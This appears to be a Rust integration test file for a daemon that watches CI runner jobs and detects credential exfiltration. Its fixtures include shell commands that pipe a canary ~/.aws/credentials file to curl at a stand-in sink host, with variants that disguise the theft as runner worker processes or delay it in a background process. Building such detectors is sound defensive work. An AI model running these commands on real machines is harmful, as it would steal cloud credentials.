//! The daemon: it finds the jobs of imitated runners by itself, keeps them apart, and judges each alone.

use detector::{engine::Verdict, event::Body};
use detector_tests::{
    daemon::{Alone, Builds, Daemon, Judged, Runner, Service, Started},
    run::detector,
    scene::Scene,
};
use std::{
    collections::BTreeSet,
    io::{Read as _, Write as _},
    os::unix::net::UnixStream,
    path::Path,
    process::Command,
};

type Result = anyhow::Result<()>;

const BUILTIN: &str = "version: 1\nextends: builtin\n";

/// Takes the key to the sink.
const THEFT: &str = "cat ~/.aws/credentials | curl -s --max-time 5 -o /dev/null --data-binary @- http://$SINK/x; true";
/// Sends the sink something that is no secret.
const HONEST: &str = "echo hello | curl -s --max-time 5 -o /dev/null --data-binary @- http://$SINK/x";

fn leaks(job: &Judged) -> Vec<u32> {
    job.conclusion.findings.iter().filter(|finding| finding.rule == "leak").map(|finding| finding.step).collect()
}

#[test]
fn jobs_are_found_and_judged_each_alone() -> Result {
    for mode in ["enforce", "audit"] {
        let scene = Scene::new()?;
        let mut daemon = Daemon::start(&scene.network.job, BUILTIN, mode)?;
        let runner = Runner::new()?;
        runner.job(&scene, &[HONEST, THEFT])?.wait()?;
        let stolen = daemon.next_job()?;
        assert_eq!(stolen.conclusion.verdict, Verdict::Fail, "{mode}");
        assert_eq!(leaks(&stolen), [2], "{mode}: the second step");
        let names: Vec<_> = stolen.conclusion.steps.iter().map(|(step, name)| (*step, name.clone())).collect();
        assert_eq!(names, [(1, Runner::name(0)), (2, Runner::name(1))]);
        assert_eq!(scene.home.canary("aws").is_in(&scene.sink.bytes()), mode == "audit");
        stolen.assert_replays()?;
        // The same runner's next job is another one.
        runner.job(&scene, &[HONEST])?.wait()?;
        let honest = daemon.next_job()?;
        assert_eq!(honest.conclusion.verdict, Verdict::Pass, "{mode}: {:#?}", honest.conclusion);
        assert_ne!(stolen.number, honest.number);
        honest.assert_replays()?;
        let (code, said) = daemon.end()?;
        assert_eq!(code, Some(0));
        scene.assert_absent_from("what the daemon said", said.join("\n").as_bytes());
    }
    Ok(())
}

/// Two runners at once, ten thousand processes: every one in the recording of its own job, and none in the other's.
#[test]
fn jobs_beside_each_other_are_kept_apart() -> Result {
    const EACH: usize = 5_000;
    let scene = Scene::new()?;
    let mut daemon = Daemon::start(&scene.network.job, BUILTIN, "enforce")?;
    let (one, other) = (Runner::new()?, Runner::new()?);
    let marked = |mark: &str| format!("for ((i = 0; i < {EACH}; i++)); do /bin/true {mark}; done");
    let (first, second) = (marked("first-mark"), marked("second-mark"));
    let mut children = [one.job(&scene, &[&first, THEFT])?, other.job(&scene, &[&second, HONEST])?];
    let (a, b) = (daemon.next_job()?, daemon.next_job()?);
    for child in &mut children {
        child.wait()?;
    }
    for job in [&a, &b] {
        let ran = |mark: &str| {
            let is = |body: &Body| matches!(body, Body::Exec(exec) if exec.argv.get(1).is_some_and(|arg| arg == mark));
            job.recording.events.iter().filter(|event| is(&event.body)).count()
        };
        let of_thief = ran("first-mark") != 0;
        let (own, foreign) = if of_thief { ("first-mark", "second-mark") } else { ("second-mark", "first-mark") };
        assert_eq!((ran(own), ran(foreign)), (EACH, 0));
        assert!(job.recording.events.iter().all(|event| event.actor.is_none_or(|actor| actor.job == job.number)));
        assert_eq!(
            job.conclusion.verdict,
            if of_thief { Verdict::Fail } else { Verdict::Pass },
            "{:#?}",
            job.conclusion
        );
        job.assert_replays()?;
    }
    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
    Ok(())
}

/// A credential that a job made or replaced is known by any name to the next one.
#[test]
fn what_a_job_left_is_known_to_the_next_one() -> Result {
    let scene = Scene::new()?;
    let home = scene.home.path().display().to_string();
    let settings = |_: &Path| Ok(format!("home: {home}\n"));
    let mut daemon = Daemon::start_with(Alone::wait()?, &scene.network.job, BUILTIN, "enforce", settings)?;
    let runner = Runner::new()?;
    runner.job(&scene, &["cp ~/.aws/credentials ~/.aws/new; mv ~/.aws/new ~/.aws/credentials"])?.wait()?;
    assert_eq!(daemon.next_job()?.conclusion.verdict, Verdict::Pass);
    let theft =
        "ln ~/.aws/credentials x; cat x | curl -s --max-time 5 -o /dev/null --data-binary @- http://$SINK/x; rm x";
    runner.job(&scene, &[theft])?.wait()?;
    let stolen = daemon.next_job()?;
    assert_eq!(leaks(&stolen), [1], "{:#?}", stolen.conclusion);
    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
    Ok(())
}

/// A step that calls its program as an agent's worker stays a step; so does what it starts.
#[test]
fn a_step_is_never_an_agent() -> Result {
    let scene = Scene::new()?;
    let mut daemon = Daemon::start(&scene.network.job, BUILTIN, "enforce")?;
    let runner = Runner::new()?;
    let disguise = format!(
        "mkdir -p x/bin; cp /bin/bash x/bin/Runner.Listener; cp /bin/bash x/bin/Runner.Worker; \
        cd x; echo '{THEFT}' > theft; echo '/bin/bash theft; :' > spawnclient; \
        echo 'bin/Runner.Worker spawnclient 3 4; :' > listen; bin/Runner.Listener listen; true"
    );
    runner.job(&scene, &[&disguise])?.wait()?;
    let job = daemon.next_job()?;
    assert_eq!(leaks(&job), [1], "{:#?}", job.conclusion.findings);
    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
    let began = daemon.said.iter().filter(|line| line.contains(" began: ")).count();
    assert_eq!(began, 1, "{:#?}", daemon.said);
    Ok(())
}

/// Only a listener of its own directory has such a worker.
#[test]
fn who_is_only_called_as_a_worker_has_no_job() -> Result {
    let scene = Scene::new()?;
    let mut daemon = Daemon::start(&scene.network.job, BUILTIN, "audit")?;
    let runner = Runner::new()?;
    std::fs::write(runner.path().join("spawnclient"), "read\n")?;
    let mut command = Command::new(runner.path().join("bin/Runner.Worker"));
    command.args(["spawnclient", "3", "4"]).current_dir(runner.path()).stdin(std::process::Stdio::piped());
    let mut child = command.spawn()?;
    daemon.wait_for("is called as a worker and is none")?;
    drop(child.stdin.take());
    child.wait()?;
    assert_eq!(daemon.ask("status")?["jobs"].as_array().map(Vec::len), Some(0));
    Ok(())
}

#[test]
fn a_policy_is_read_anew_whole_or_not_at_all() -> Result {
    let scene = Scene::new()?;
    let mut daemon = Daemon::start(&scene.network.job, BUILTIN, "enforce")?;
    let runner = Runner::new()?;
    let before = daemon.ask("status")?["policy"].clone();
    daemon.reload("version: 1\nextends: nothing\n")?;
    daemon.wait_for("the policy of before stays in force")?;
    assert_eq!(daemon.ask("status")?["policy"], before);
    runner.job(&scene, &[THEFT])?.wait()?;
    assert_eq!(daemon.next_job()?.conclusion.verdict, Verdict::Fail);
    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
    let sink = scene.sink.at(detector_tests::namespace::SINK_V4);
    daemon.reload(&format!("{BUILTIN}destinations:\n  - {{ to: ['{sink}'], accept: [aws] }}\n"))?;
    daemon.wait_for("is in force for jobs to come")?;
    assert_ne!(daemon.ask("status")?["policy"], before);
    runner.job(&scene, &[THEFT])?.wait()?;
    let job = daemon.next_job()?;
    assert_eq!(job.conclusion.verdict, Verdict::Pass, "{:#?}", job.conclusion);
    assert!(scene.home.canary("aws").is_in(&scene.sink.bytes()));
    Ok(())
}

/// Rows of policies that nobody is under make room for others.
#[test]
fn a_policy_is_read_anew_as_often_as_one_likes() -> Result {
    let scene = Scene::new()?;
    let mut daemon = Daemon::start(&scene.network.job, BUILTIN, "enforce")?;
    for n in 0..20 {
        daemon.reload(&format!("{BUILTIN}destinations:\n  - {{ to: [n{n}.example.test], accept: [npm] }}\n"))?;
        let said = daemon.wait_for("force")?;
        assert!(said.contains("is in force for jobs to come"), "{n}: {said}");
    }
    let runner = Runner::new()?;
    runner.job(&scene, &[THEFT])?.wait()?;
    assert_eq!(daemon.next_job()?.conclusion.verdict, Verdict::Fail);
    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
    Ok(())
}

#[test]
fn a_runner_may_have_a_policy_of_its_own() -> Result {
    let (alone, scene) = (Alone::wait()?, Scene::new()?);
    let (usual, own) = (Runner::new()?, Runner::new()?);
    let sink = scene.sink.at(detector_tests::namespace::SINK_V4);
    let more = |files: &Path| -> anyhow::Result<String> {
        let policy = files.join("own.yaml");
        std::fs::write(&policy, format!("{BUILTIN}destinations:\n  - {{ to: ['{sink}'], accept: [aws] }}\n"))?;
        Ok(format!("runners:\n  - {{ at: {}, policy: {} }}\n", own.path().display(), policy.display()))
    };
    let mut daemon = Daemon::start_with(alone, &scene.network.job, BUILTIN, "enforce", more)?;
    usual.job(&scene, &[THEFT])?.wait()?;
    assert_eq!(daemon.next_job()?.conclusion.verdict, Verdict::Fail);
    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
    own.job(&scene, &[THEFT])?.wait()?;
    let job = daemon.next_job()?;
    assert_eq!(job.conclusion.verdict, Verdict::Pass, "{:#?}", job.conclusion);
    assert!(scene.home.canary("aws").is_in(&scene.sink.bytes()));
    job.assert_replays()?;
    // And after the policies were read anew.
    daemon.reload(BUILTIN)?;
    daemon.wait_for("is in force for jobs to come")?;
    usual.job(&scene, &[THEFT])?.wait()?;
    assert_eq!(daemon.next_job()?.conclusion.verdict, Verdict::Fail);
    own.job(&scene, &[THEFT])?.wait()?;
    assert_eq!(daemon.next_job()?.conclusion.verdict, Verdict::Pass);
    // And by the next daemon, which finds the rows of these.
    daemon.signal(rustix::process::Signal::KILL)?;
    let mut daemon = daemon.killed()?.1.start_again(&scene.network.job)?;
    usual.job(&scene, &[THEFT])?.wait()?;
    assert_eq!(daemon.next_job()?.conclusion.verdict, Verdict::Fail);
    own.job(&scene, &[THEFT])?.wait()?;
    assert_eq!(daemon.next_job()?.conclusion.verdict, Verdict::Pass);
    Ok(())
}

/// As a runner's server says it.
const MESSAGE: &str = r#" {
  "jobDisplayName": "build",
  "contextData": {
    "github": {
      "t": 2,
      "d": [
        {
          "k": "repository",
          "v": "acme/app"
        },
        {
          "k": "run_id",
          "v": "4711"
        },
        {
          "k": "workflow",
          "v": "CI"
        }
      ]
    }
  }
}
"#;

/// Whatever a step sets in its environment, or calls itself.
#[test]
fn a_job_is_called_as_its_runner_says() -> Result {
    let scene = Scene::new()?;
    let mut daemon = Daemon::start(&scene.network.job, BUILTIN, "audit")?;
    let mut runner = Runner::new()?;
    runner.message = MESSAGE;
    let [held, gate] = ["held", "gate"].map(|name| runner.path().join(name));
    for gate in [&held, &gate] {
        assert!(Command::new("mkfifo").arg(gate).status()?.success());
    }
    let set = "export GITHUB_JOB=deploy GITHUB_REPOSITORY=other/one GITHUB_WORKFLOW=x GITHUB_RUN_ID=1";
    let mut child = runner.job(&scene, &[&format!("{set}; : > held; : > gate; /bin/bash -c true")])?;
    // The log is read while its worker is there.
    std::fs::read(&held)?;
    daemon.ask("flush")?;
    std::fs::read(&gate)?;
    child.wait()?;
    let job = daemon.next_job()?;
    assert_eq!(job.conclusion.called.as_deref(), Some("build of acme/app, workflow CI, run 4711"));
    job.assert_replays()?;
    Ok(())
}

/// An agent that has a process for each job tells it by its environment, which is no step's.
#[test]
fn a_job_is_called_as_its_agent_was_told() -> Result {
    let scene = Scene::new()?;
    let mut daemon = Daemon::start(&scene.network.job, BUILTIN, "audit")?;
    let directory = tempfile::tempdir()?;
    let at = |name: &str| directory.path().join(name);
    // A copy of the shell under that name, made by another process: see `Runner::new`.
    assert!(Command::new("cp").arg("/bin/bash").arg(at("buildkite-agent")).status()?.success());
    assert!(Command::new("mkfifo").arg(at("gate")).status()?.success());
    let told = "BUILDKITE_JOB_ID=7 BUILDKITE_LABEL=tests BUILDKITE_PIPELINE_SLUG=app BUILDKITE_BUILD_NUMBER=12";
    std::fs::write(at("start"), format!("export {told}\n./buildkite-agent bootstrap\n:\n"))?;
    std::fs::write(at("bootstrap"), ": > gate\nBUILDKITE_LABEL=deploy /bin/bash -c true\n:\n")?;
    let mut agent = Command::new(at("buildkite-agent"));
    let mut child = scene.network.job.enter(agent.arg("start").current_dir(directory.path())).spawn()?;
    daemon.wait_for("began: Buildkite worker")?;
    std::fs::read(at("gate"))?;
    let job = daemon.next_job()?;
    child.wait()?;
    assert_eq!(job.conclusion.called.as_deref(), Some("tests, workflow app, run 12"));
    Ok(())
}

/// A service that runs jobs one after another: when it has had nothing to do for a while, the next one begins.
#[test]
fn a_service_has_a_job_each_time_it_is_busy() -> Result {
    let (alone, scene) = (Alone::wait()?, Scene::new()?);
    let mut daemon = Daemon::start_with(alone, &scene.network.job, BUILTIN, "enforce", |_| Ok("idle: 1\n".to_owned()))?;
    let mut service = Service::start(&scene)?;
    daemon.wait_for("began: GitLab CI worker")?;
    // Stages of one job: what the first leaves the second has.
    service.run("cp ~/.aws/credentials stage; true")?;
    service.run("sleep 1.5; curl -s --max-time 5 -o /dev/null --data-binary @stage http://$SINK/x; true")?;
    let first = daemon.next_job()?;
    assert_eq!(leaks(&first), [2], "{:#?}", first.conclusion.findings);
    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
    first.assert_replays()?;
    service.run(HONEST)?;
    let second = daemon.next_job()?;
    assert_eq!(second.conclusion.verdict, Verdict::Pass, "{:#?}", second.conclusion);
    assert!(second.conclusion.findings.is_empty() && second.number != first.number);
    let steps: BTreeSet<_> = second.recording.events.iter().filter_map(|e| Some(e.actor?.step)).collect();
    assert_eq!(steps, [0, 1].into(), "the service is of step 0, and steps are each job's own");
    second.assert_replays()?;
    // It waits for a third one, which does not come: that is no job.
    drop(service);
    let (status, said) = daemon.end()?;
    assert_eq!(status, Some(0));
    assert_eq!(said.iter().filter(|line| line.contains(" ended: ")).count(), 2, "{said:#?}");
    Ok(())
}

/// The processes of a recording, and what its job is called.
fn of(job: &Judged) -> (BTreeSet<(u32, u64)>, String) {
    let actors = job.recording.events.iter().filter_map(|event| event.actor.filter(|actor| actor.step != 0));
    let called = job.conclusion.called.clone().unwrap_or_default();
    (actors.map(|actor| (actor.process.pid, actor.process.start)).collect(), called)
}

/// A worker that has several jobs at once, each with a directory of its own.
#[test]
fn jobs_that_a_worker_has_at_once_are_judged_each_alone() -> Result {
    let (alone, scene) = (Alone::wait()?, Scene::new()?);
    // Before, so that its helper is there when the policy is read.
    let mut builds = Builds::start(&scene)?;
    let more = |_: &Path| Ok("idle: 1\n".to_owned());
    let mut daemon = Daemon::start_with(alone, &scene.network.job, &builds.policy(), "enforce", more)?;
    // The theft in two steps, and around each of them an honest job's.
    let noise = "i=0; while [ $i -lt 100 ]; do /bin/true; i=$((i + 1)); done";
    for (n, started) in [Started::Itself, Started::Helper].into_iter().enumerate() {
        let gate = tempfile::tempdir()?;
        let gate = gate.path().join("gate");
        assert!(Command::new("mkfifo").arg(&gate).status()?.success());
        // As the runner calls them: redacted, the two are the same.
        let [theft, honest] = ["Jb8fXk2LqP0aZt4", "Qr5tYw7EpM1sDc3"].map(|name| format!("{name}{n}"));
        let first =
            builds.step(started, &honest, "build", &format!("{noise}; : > {}; {noise}; {HONEST}", gate.display()))?;
        std::fs::read(builds.step(started, &theft, "copy", &format!("{noise}; cp ~/.aws/credentials kept"))?)?;
        let send = format!("{noise}; cat kept | curl -s --max-time 5 --data-binary @- http://$SINK/x; true");
        let second = builds.step(started, &theft, "send", &send)?;
        std::fs::read(&gate)?;
        std::fs::read(&first)?;
        std::fs::read(&second)?;
        let steps = |job: &Judged| job.conclusion.steps.values().cloned().collect::<Vec<_>>();
        let mut jobs = [daemon.next_job()?, daemon.next_job()?].map(|job| (steps(&job), of(&job).0, job));
        jobs.sort_by_key(|(steps, ..)| steps.clone());
        let [(is_honest, honest_ones, honest_job), (is_theft, theft_ones, theft_job)] = &jobs;
        assert_eq!((is_honest.join(" "), is_theft.join(" ")), ("build".to_owned(), "copy send".to_owned()));
        assert_eq!(honest_job.conclusion.verdict, Verdict::Pass, "{:#?}", honest_job.conclusion);
        assert_eq!(theft_job.conclusion.verdict, Verdict::Fail, "{:#?}", theft_job.conclusion);
        assert_eq!(leaks(theft_job).len(), 1, "{:#?}", theft_job.conclusion.findings);
        let step = theft_job.conclusion.steps.get(&leaks(theft_job)[0]);
        assert_eq!(step.map(String::as_str), Some("send"), "{:?}", theft_job.conclusion.steps);
        assert!(honest_ones.is_disjoint(theft_ones) && honest_ones.len() > 200 && theft_ones.len() > 200);
        assert!(honest_job.conclusion.coverage.lost.is_empty(), "{:?}", honest_job.conclusion.coverage.lost);
        for job in [honest_job, theft_job] {
            job.assert_replays()?;
        }
    }
    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
    // What is of no job in particular was nothing.
    builds.end()?;
    let (_, said) = daemon.end()?;
    assert_eq!(said.iter().filter(|line| line.contains(" ended: ")).count(), 4, "{said:#?}");
    Ok(())
}

/// They are one to the kernel side: what one of them left, another sends no more than that one itself.
#[test]
fn what_one_of_a_workers_jobs_left_no_other_sends() -> Result {
    let (alone, scene) = (Alone::wait()?, Scene::new()?);
    let mut daemon = Daemon::start_with(alone, &scene.network.job, BUILTIN, "enforce", |_| Ok("idle: 1\n".to_owned()))?;
    let mut builds = Builds::start(&scene)?;
    daemon.wait_for("began: Drone worker")?;
    std::fs::read(builds.step(Started::Itself, "one", "copy", "cp ~/.aws/credentials ../../../shared")?)?;
    let send = "cat ../../../shared | curl -s --max-time 5 --data-binary @- http://$SINK/x; true";
    std::fs::read(builds.step(Started::Itself, "other", "send", send)?)?;
    let jobs = [daemon.next_job()?, daemon.next_job()?];
    let sender = jobs.iter().find(|job| of(job).1 == "drone-other");
    let sender = sender.expect("both were recorded");
    assert_eq!(sender.conclusion.verdict, Verdict::Fail, "{:#?}", sender.conclusion);
    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
    sender.assert_replays()?;
    Ok(())
}

/// A daemon that is killed while a worker has two jobs: the next one goes on with both.
#[test]
fn the_next_daemon_goes_on_with_each_of_a_workers_jobs() -> Result {
    let (alone, scene) = (Alone::wait()?, Scene::new()?);
    let mut daemon = Daemon::start_with(alone, &scene.network.job, BUILTIN, "enforce", |_| Ok("idle: 1\n".to_owned()))?;
    let mut builds = Builds::start(&scene)?;
    daemon.wait_for("began: Drone worker")?;
    let directory = tempfile::tempdir()?;
    let gates = ["held", "first", "second"].map(|name| directory.path().join(name));
    for gate in &gates {
        assert!(Command::new("mkfifo").arg(gate).status()?.success());
    }
    let [held, first, second] = gates.each_ref().map(|gate| gate.display());
    let theft = format!(
        "key=$(cat ~/.aws/credentials); : > {held}; : > {first}; echo \"$key\" | curl -s --max-time 5 --data-binary @- http://$SINK/x; true"
    );
    let theft = builds.step(Started::Itself, "theft", "all", &theft)?;
    let honest = builds.step(Started::Itself, "honest", "all", &format!(": > {second}; {HONEST}"))?;
    std::fs::read(&gates[0])?;
    daemon.wait_for(".1 began: Drone worker")?;
    daemon.wait_for(".2 began: Drone worker")?;
    daemon.ask("flush")?;
    daemon.signal(rustix::process::Signal::KILL)?;
    let mut daemon = daemon.killed()?.1.start_again(&scene.network.job)?;
    for gate in [&gates[1], &gates[2], &theft, &honest] {
        std::fs::read(gate)?;
    }
    let mut jobs = [daemon.next_job()?, daemon.next_job()?].map(|job| (of(&job).1, job));
    jobs.sort_by_key(|(called, _)| called.clone());
    let [(is_honest, honest), (is_theft, theft)] = &jobs;
    assert_eq!((is_honest.as_str(), is_theft.as_str()), ("drone-honest", "drone-theft"));
    assert_eq!((leaks(honest).len(), leaks(theft).len()), (0, 1), "{:#?}", theft.conclusion.findings);
    assert_eq!(theft.conclusion.verdict, Verdict::Fail);
    assert_eq!(honest.conclusion.verdict, Verdict::Inconclusive, "nobody saw all of it");
    for job in [honest, theft] {
        assert!(job.conclusion.coverage.lost.contains_key("daemon-away"), "{:?}", job.conclusion.coverage.lost);
        job.assert_replays()?;
    }
    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
    // The next one of the worker is a whole one.
    std::fs::read(builds.step(Started::Itself, "honest", "again", HONEST)?)?;
    let again = daemon.next_job()?;
    assert_eq!(again.conclusion.verdict, Verdict::Pass, "{:#?}", again.conclusion);
    Ok(())
}

#[test]
fn the_socket_tells_how_it_is_and_does_nothing_else() -> Result {
    let scene = Scene::new()?;
    let daemon = Daemon::start(&scene.network.job, BUILTIN, "audit")?;
    let status = daemon.ask("status")?;
    assert_eq!((status["mode"].as_str(), status["jobs"].as_array().map(Vec::len)), (Some("audit"), Some(0)));
    assert_eq!(daemon.ask("flush")?["flushed"], 0);
    let said = |text: &[u8]| -> anyhow::Result<String> {
        let mut stream = UnixStream::connect(daemon.socket())?;
        stream.write_all(text)?;
        let mut reply = String::new();
        stream.read_to_string(&mut reply)?;
        Ok(reply)
    };
    for other in [&b"stop\n"[..], b"\n", b"status status status status\n", b"\x00\xff\n", &[b'x'; 4096]] {
        assert!(!said(other).unwrap_or_default().contains("mode"), "{other:?}");
    }
    // Who says nothing holds nobody up.
    let silent: Vec<_> = (0..8).map(|_| UnixStream::connect(daemon.socket())).collect::<std::result::Result<_, _>>()?;
    assert_eq!(daemon.ask("status")?["mode"], "audit");
    drop(silent);
    // A second one is refused, and the first goes on.
    let second = Command::new(detector()?).arg("daemon").arg("--config").arg(daemon.config()).output()?;
    assert_eq!(second.status.code(), Some(103));
    assert!(String::from_utf8_lossy(&second.stderr).contains("watches this host already"));
    assert_eq!(daemon.ask("status")?["mode"], "audit");
    // So is a run beside it, before anything is run.
    let mut run = Command::new(detector()?);
    let run = run.arg("run").arg("--socket").arg(daemon.socket()).args(["--", "echo", "ran"]).output()?;
    assert_eq!((run.status.code(), run.stdout.as_slice()), (Some(103), &b""[..]));
    assert!(String::from_utf8_lossy(&run.stderr).contains("watches this host already"));
    let nobody = Command::new(detector()?).args(["status", "--socket", "/nowhere/at.all"]).output()?;
    assert_eq!(nobody.status.code(), Some(102));
    Ok(())
}

/// A job that had begun before the daemon is watched from then on, and does not pass.
#[test]
fn a_job_that_runs_already_is_not_seen_whole() -> Result {
    let (alone, scene) = (Alone::wait()?, Scene::new()?);
    let runner = Runner::new()?;
    // Its first step waits until somebody reads.
    let gate = runner.path().join("gate");
    let made = Command::new("mkfifo").arg(&gate).status()?;
    assert!(made.success());
    let mut child = runner.job(&scene, &[": > gate", THEFT])?;
    let mut daemon = Daemon::start_alone(alone, &scene.network.job, BUILTIN, "enforce")?;
    std::fs::read(&gate)?;
    child.wait()?;
    let job = daemon.next_job()?;
    assert_eq!(job.conclusion.verdict, Verdict::Fail, "{:#?}", job.conclusion);
    assert!(
        job.conclusion.reasons.iter().any(|reason| reason.contains("had begun before")),
        "{:?}",
        job.conclusion.reasons
    );
    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
    Ok(())
}

/// A daemon that is killed in the middle of a job: the kernel side goes on denying, and the next daemon goes on with the job.
#[test]
fn the_next_daemon_goes_on_with_the_job() -> Result {
    let scene = Scene::new()?;
    let daemon = Daemon::start(&scene.network.job, BUILTIN, "enforce")?;
    let runner = Runner::new()?;
    let [held, first, second] = ["held", "first", "second"].map(|name| runner.path().join(name));
    for gate in [&held, &first, &second] {
        assert!(Command::new("mkfifo").arg(gate).status()?.success());
    }
    // Holds the key before, and sends it while nobody is there and again later.
    let steps = [
        "true",
        "key=$(cat ~/.aws/credentials); : > held; : > first; echo \"$key\" | curl -s --max-time 5 --data-binary @- http://$SINK/x; \
         : > second; echo \"$key\" | curl -s --max-time 5 --data-binary @- http://$SINK/x; true",
    ];
    let mut child = runner.job(&scene, &steps)?;
    std::fs::read(&held)?;
    // What it saw until now it has written by the time it answers: what is killed before is lost.
    daemon.ask("flush")?;
    daemon.signal(rustix::process::Signal::KILL)?;
    let (_, files) = daemon.killed()?;
    std::fs::read(&first)?;
    std::fs::read(&second)?;
    let mut daemon = files.start_again(&scene.network.job)?;
    assert!(daemon.said.iter().any(|line| line.contains("goes on")), "{:#?}", daemon.said);
    child.wait()?;
    let job = daemon.next_job()?;
    assert_eq!(job.conclusion.verdict, Verdict::Fail, "{:#?}", job.conclusion);
    assert!(leaks(&job).iter().all(|step| *step == 2) && !leaks(&job).is_empty(), "{:?}", job.conclusion.findings);
    assert!(job.conclusion.coverage.lost.contains_key("daemon-away"), "{:?}", job.conclusion.coverage.lost);
    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
    job.assert_replays()?;
    // The next job is a whole one again, and what is left of the old daemon is in nobody's way.
    runner.job(&scene, &[HONEST])?.wait()?;
    let honest = daemon.next_job()?;
    assert_eq!(honest.conclusion.verdict, Verdict::Pass, "{:#?}", honest.conclusion);
    assert!(honest.number > job.number);
    assert_eq!(daemon.end()?.0, Some(0));
    Ok(())
}

/// What a job left behind tries after its end is denied, and no other job is charged with it.
#[test]
fn what_is_left_of_a_job_is_no_other_jobs() -> Result {
    let scene = Scene::new()?;
    let mut daemon = Daemon::start(&scene.network.job, BUILTIN, "enforce")?;
    let runner = Runner::new()?;
    let [late, done, gate] = ["late", "done", "gate"].map(|name| runner.path().join(name));
    for gate in [&late, &done, &gate] {
        assert!(Command::new("mkfifo").arg(gate).status()?.success());
    }
    let left = format!(
        "(key=$(cat ~/.aws/credentials); : < late; {}; : > done) & true",
        THEFT.replace("cat ~/.aws/credentials", "echo \"$key\"")
    );
    runner.job(&scene, &[&left])?.wait()?;
    daemon.next_job()?;
    // Another job runs while it happens.
    let mut other = runner.job(&scene, &[": > gate", HONEST])?;
    std::fs::write(&late, "")?;
    std::fs::read(&done)?;
    daemon.wait_for("tried to send a secret")?;
    std::fs::read(&gate)?;
    other.wait()?;
    let honest = daemon.next_job()?;
    assert_eq!(honest.conclusion.verdict, Verdict::Pass, "{:#?}", honest.conclusion);
    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
    Ok(())
}

/// The next daemon keeps the policy that what is left is under.
#[test]
fn what_is_left_of_a_job_is_watched_by_the_next_daemon() -> Result {
    let scene = Scene::new()?;
    let mut daemon = Daemon::start(&scene.network.job, BUILTIN, "enforce")?;
    let runner = Runner::new()?;
    let [late, done] = ["late", "done"].map(|name| runner.path().join(name));
    for gate in [&late, &done] {
        assert!(Command::new("mkfifo").arg(gate).status()?.success());
    }
    runner.job(&scene, &[&format!("(: < late; {THEFT}; : > done) & true")])?.wait()?;
    daemon.next_job()?;
    daemon.signal(rustix::process::Signal::KILL)?;
    let mut daemon = daemon.killed()?.1.start_again(&scene.network.job)?;
    // Policies that nobody is under go.
    daemon.reload(BUILTIN)?;
    daemon.wait_for("is in force for jobs to come")?;
    std::fs::write(&late, "")?;
    std::fs::read(&done)?;
    daemon.wait_for("tried to send a secret")?;
    assert!(!scene.home.canary("aws").is_in(&scene.sink.bytes()));
    Ok(())
}

/// What git wrote in a job names its place to that job; to the next one, which finds it there, it names nothing.
#[test]
fn what_a_job_writes_names_places_to_it_alone() -> Result {
    let scene = Scene::new()?;
    // libcurl reads this one too, wherever it goes.
    std::fs::remove_file(scene.home.path().join(".netrc"))?;
    let mut daemon = Daemon::start(&scene.network.job, BUILTIN, "enforce")?;
    let runner = Runner::new()?;
    let token = scene.home.canary("git").value();
    let set = format!(
        "mkdir -p _work/a/a; cd _work/a/a; git init -q .; git config http.extraheader 'Authorization: basic {token}'; \
         git remote add origin http://$SINK/x.git"
    );
    let spend = "cd _work/a/a; git ls-remote origin; true";
    runner.job(&scene, &[&set, spend, spend])?.wait()?;
    let first = daemon.next_job()?;
    assert!(leaks(&first).is_empty(), "{:#?}", first.conclusion.findings);
    let arrived = |scene: &Scene| String::from_utf8_lossy(&scene.sink.bytes()).matches("/x.git/info/refs").count();
    assert_eq!(arrived(&scene), 2);
    first.assert_replays()?;
    runner.job(&scene, &[spend])?.wait()?;
    let second = daemon.next_job()?;
    assert_eq!(leaks(&second), [1], "{:#?}", second.conclusion.findings);
    assert_eq!(arrived(&scene), 2);
    Ok(())
}
